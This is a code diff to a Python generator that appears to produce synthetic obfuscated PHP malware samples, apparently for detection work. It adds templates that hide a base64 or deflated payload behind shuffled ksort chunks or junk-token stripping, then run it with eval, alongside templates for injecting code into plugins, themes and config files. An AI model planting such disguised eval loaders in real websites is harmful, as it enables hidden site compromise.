@@ -813,6 +813,46 @@ if (isset($%(b)s[%(p)s])) {
     return one(r, code)
 
 
+def ksort_chunks(r, S):
+    """The payload cut into chunks kept under shuffled numeric keys, put back
+    in order by ksort before it is decoded."""
+    body = inner(r)
+    enc = b64(deflate_raw(body)) if r.random() < 0.5 else b64(body)
+    inflate = enc != b64(body)
+    parts = chunks(enc, r.randint(12, 40))
+    keys = sorted(r.sample(range(100, 9999), len(parts)))
+    pairs = list(zip(keys, parts))
+    r.shuffle(pairs)
+    a, b = S.name(), S.name()
+    code = "<?php\n$%s = array(\n%s\n);\nksort($%s);\n$%s = base64_decode(implode('', $%s));\n" % (
+        a, "\n".join("    %d => %s," % (k, sq(v)) for k, v in pairs), a, b, a)
+    if inflate:
+        code += "$%s = gzinflate($%s);\n" % (b, b)
+    code += r.choice(("eval($%s);\n" % b, "@eval('?>' . '<?php ' . $%s);\n" % b))
+    return one(r, code)
+
+
+def junk_strip(r, S):
+    """Base64 with a junk token sprinkled through it, removed by str_replace
+    (the callee names get the same treatment)."""
+    junk = r.choice(("%x%", "_@", "Zq#", "!!", "@@1", "~"))  # never a base64 run
+    body = inner(r)
+    enc = b64(body)
+    dirty = junk.join(chunks(enc, r.randint(3, 7)))
+
+    def dj(name):
+        k = r.randint(1, len(name) - 1)
+        return sq(name[:k] + junk + name[k:])
+    f, g, t = S.name(), S.name(), S.name()
+    code = """<?php
+$%(f)s = str_replace(%(j)s, '', %(b64)s);
+$%(t)s = str_replace(%(j)s, '', %(dirty)s);
+$%(g)s = $%(f)s($%(t)s);
+eval($%(g)s);
+""" % dict(f=f, g=g, t=t, j=sq(junk), b64=dj("base64_decode"), dirty=sq(dirty))
+    return one(r, code, ("plain", "odd-ext", "no-ext", "crlf", "short-tag", "image-tail"))
+
+
 # ---------------------------------------------------------------------------
 # injected into realistic application files
 
@@ -1171,12 +1211,13 @@ require __DIR__ . '/wp-blog-header.php';
 
 
 TEMPLATES = (
-    ("kit_zh", kit_zh, 5), ("kit_ru", kit_ru, 5), ("kit_id", kit_id, 5), ("kit_vi", kit_vi, 4), ("kit_pt", kit_pt, 4),
-    ("mass_deface", mass_deface, 5), ("mirror_notifier", mirror_notifier, 4), ("php4_era", php4_era, 5),
-    ("cracked_banner", cracked_banner, 5), ("nested_chain", nested_chain, 6), ("varvar_table", varvar_table, 5),
+    ("kit_zh", kit_zh, 4), ("kit_ru", kit_ru, 4), ("kit_id", kit_id, 5), ("kit_vi", kit_vi, 4), ("kit_pt", kit_pt, 4),
+    ("mass_deface", mass_deface, 5), ("mirror_notifier", mirror_notifier, 4), ("php4_era", php4_era, 4),
+    ("cracked_banner", cracked_banner, 4), ("nested_chain", nested_chain, 5), ("varvar_table", varvar_table, 5),
     ("goto_spaghetti", goto_spaghetti, 5), ("numeric_index", numeric_index, 5), ("long_xor", long_xor, 5),
     ("class_loader", class_loader, 5), ("closure_loader", closure_loader, 5), ("rc4_cookie_key", rc4_cookie_key, 5),
-    ("xor_header_key", xor_header_key, 5), ("globals_table", globals_table, 5), ("octal_escape", octal_escape, 4),
+    ("xor_header_key", xor_header_key, 5), ("globals_table", globals_table, 4), ("octal_escape", octal_escape, 4), ("ksort_chunks", ksort_chunks, 4),
+    ("junk_strip", junk_strip, 4),
     ("inject_plugin_top", inject_plugin_top, 5), ("inject_theme_mid", inject_theme_mid, 5),
     ("inject_config", inject_config_end, 5), ("inject_vendor_lib", inject_vendor_lib, 5),
     ("fake_plugin", fake_plugin, 5), ("htaccess_files_handler", htaccess_files_handler, 4),
